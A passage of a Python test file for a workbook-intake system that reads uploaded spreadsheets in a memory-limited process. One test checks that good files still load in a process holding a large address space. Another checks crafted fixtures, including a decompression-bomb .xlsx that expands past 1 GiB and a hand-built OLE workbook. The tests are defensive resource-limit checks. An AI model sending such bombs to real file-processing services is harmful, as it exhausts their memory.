from workbooks.intake.reader import ReadFailure, read_isolated
from workbooks.project import open_project
project, _ = open_project(Path(sys.argv[1]))
reserved = mmap.mmap(-1, int(sys.argv[2]), flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
try:
    direct = sorted(read_isolated(next(project.inbox.iterdir())).cells)
except ReadFailure as failure:
    direct = [failure.code, str(failure)]
summary = consolidate(project)
outcomes = {o.name: [o.status, sorted(f.code for f in o.findings)] for o in summary.outcomes}
print(json.dumps({"direct": direct, "outcomes": outcomes}))
"""


def test_a_large_address_space_does_not_fail_good_files(base: Base, tmp_path: Path) -> None:
    """The reading child's memory limit is a budget on top of what the consolidating process already maps:
    a process that maps 2 GiB it never touches (as numpy's thread buffers and malloc arenas do on a many-core
    machine) still reads a good workbook. In a fresh process, where the child cannot get by on memory its
    parent happened to leave free."""
    project = fresh_project(base, tmp_path)
    seen = run_fresh(RESERVED, project.root, str(2 * GiB))
    assert seen["direct"] == sorted([TASKS, INPUTS, IDENTITY_SHEET])
    assert seen["outcomes"] == {f"{HR}-任务分解表（已填）.xlsx": ["accepted", []]}
    good_is_in_the_ledger(project, None)


def test_builders_make_what_they_claim(base: Base) -> None:
    """The crafted files are what their names say, as a standard reader sees them."""
    with zipfile.ZipFile(base.bombs / "bomb-honest.xlsx") as z:
        info = z.getinfo("xl/sharedStrings.xml")
        assert info.file_size > GiB and info.compress_size < 4 * MiB
        with z.open(info) as fh:
            assert fh.read(200).count(b"A") > 50
    ole = io.BytesIO(ole_file({"Workbook": biff8_workbook_stream()}))
    header = ole.read(512)
    assert header[:8] == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" and len(ole.getvalue()) == 512 * 11
    directory = ole.getvalue()[1024:1536]
    assert directory[128 : 128 + 16] == "Workbook".encode("utf-16-le")
    start, size = struct.unpack_from("<IQ", directory, 128 + 116)
    stream = ole.getvalue()[(start + 1) * 512 :][:size]
    assert struct.unpack_from("<HHH", stream) == (0x0809, 16, 0x0600)
